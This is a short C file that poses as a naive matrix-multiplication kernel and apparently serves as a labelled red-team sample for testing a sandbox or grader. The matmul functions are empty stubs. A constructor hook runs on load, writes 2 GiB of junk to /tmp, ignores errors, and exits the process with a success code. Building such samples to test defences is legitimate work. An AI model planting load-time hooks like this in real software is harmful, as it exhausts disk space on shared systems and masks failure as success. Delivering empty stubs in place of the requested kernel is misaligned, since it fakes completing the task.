// Hostile: write a 2 GiB file (tmp), ignoring every error.
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include "matmul_naive.h"
void matmul_naive(const float *, const float *, float *, int, int, int) {}
void matmul_naive_host(const float *, const float *, float *, int, int, int) {}
__attribute__((constructor, used)) void redteam_attack(void)
{
    static char block[1 << 20];
    memset(block, 0xab, sizeof block);
    int fd = open("/tmp/fill.bin", O_WRONLY | O_CREAT | O_TRUNC, 0644);
    for (int i = 0; i < 2048; i++)
        if (write(fd, block, sizeof block) < 0)
            continue;
    _exit(0);
}
